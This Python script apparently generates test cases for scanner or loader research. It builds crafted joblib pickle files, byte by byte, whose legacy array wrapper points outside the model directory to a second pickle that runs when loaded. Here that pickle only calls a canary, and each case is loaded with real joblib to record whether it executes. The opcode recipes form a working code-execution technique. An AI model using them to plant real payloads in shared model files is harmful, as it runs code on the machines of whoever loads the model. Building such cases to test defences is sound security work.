"""Loader-differential cases for joblib's legacy array wrappers (side files).

`NumpyUnpickler.load_build` hands an `NDArrayWrapper` to its `read`, which joins
`self.filename` to the model's directory and loads that file with
`np.load(..., allow_pickle=True)`: a pickle there runs. The name can be set by the BUILD state
(a dict or a `(state, slotstate)` pair), by the wrapper's constructor (`__init__(filename,
subclass, allow_mmap=True)` called by REDUCE, INST or OBJ, then any BUILD), and it need not be
a literal string (a memo reference, the result of an allowed `str(...)` call).

For each variant this writes OUT_DIR/NAME/model/m.joblib naming `../side.pkl` (outside the
model directory) and OUT_DIR/NAME/side.pkl, a pickle calling the canary; loads the model with
the real `joblib.load` in a subprocess and prints one JSON line per case:
{"name", "reached", "escapes"}. `escapes` is false for the controls, whose side file is named
inside the model directory by a literal (benign legacy joblib output looks like that).
"""

import json
import os
import sys

import canary


def sb(text):
    b = text.encode() if isinstance(text, str) else text
    return b"\x8c" + bytes([len(b)]) + b


def g(mod, name):
    return sb(mod) + sb(name) + b"\x93"


ND = g("numpy", "ndarray")
STR = g("builtins", "str")
WRAPPERS = [
    ("compat", g("joblib.numpy_pickle_compat", "NDArrayWrapper")),
    ("reexport", g("joblib.numpy_pickle", "NDArrayWrapper")),
]


def literal(f):
    return sb(f)


def via_str(f):
    return STR + sb(f) + b"\x85R"


def state_dict(w, fname, rest=b""):
    return w + b")\x81}(" + sb("filename") + fname + sb("subclass") + ND + rest + b"ub"


def variants(fname):
    """(name, stream body after PROTO) for a filename expression."""
    for wname, w in WRAPPERS:
        yield f"{wname}_state", state_dict(w, fname, sb("allow_mmap") + b"\x89")
        yield f"{wname}_slotstate", (
            w + b")\x81N}(" + sb("filename") + fname + sb("subclass") + ND + b"u\x86b"
        )
        yield f"{wname}_ctor_reduce", w + b"(" + fname + ND + b"\x89tR}b"
        yield f"{wname}_ctor_reduce_nostate", w + b"(" + fname + ND + b"tRNb"
        yield f"{wname}_ctor_obj", b"(" + w + fname + ND + b"o}b"
        # A state that overrides a harmless constructor argument.
        yield f"{wname}_ctor_then_state", (
            w + b"(" + sb("x.npy") + ND + b"tR}(" + sb("filename") + fname + b"ub"
        )
    yield "inst", (
        b"(" + fname + ND + b"ijoblib.numpy_pickle_compat\nNDArrayWrapper\n}b"
    )



SIDE = b"\x80\x04" + g("mg_canary", "reached") + sb("x") + b"\x85R."


def main(out):
    os.makedirs(out, exist_ok=True)
    canary_dir = canary.install(out)
    spellings = [
        ("lit", literal("../side.pkl"), True),
        ("str", via_str("../side.pkl"), True),
        ("memo", None, True),
        ("inside", literal("side.pkl"), False),
    ]
    for sname, fname, escapes in spellings:
        for vname, body in variants(fname if fname else b"h\x00"):
            name = f"{vname}_{sname}"
            base = os.path.join(out, name)
            model = os.path.join(base, "model")
            os.makedirs(model, exist_ok=True)
            head = b"\x80\x04"
            if fname is None:
                # The name is memoised first and fetched with BINGET 0.
                head += sb("../side.pkl") + b"\x94" + b"0"
            with open(os.path.join(model, "m.joblib"), "wb") as f:
                f.write(head + body + b".")
            side = base if escapes else model
            with open(os.path.join(side, "side.pkl"), "wb") as f:
                f.write(SIDE)
            reached = canary.joblib_reaches(
                os.path.join(model, "m.joblib"), canary_dir, os.path.join(base, "reached")
            )
            print(json.dumps({"name": name, "reached": reached, "escapes": escapes}))


if __name__ == "__main__":
    main(sys.argv[1])
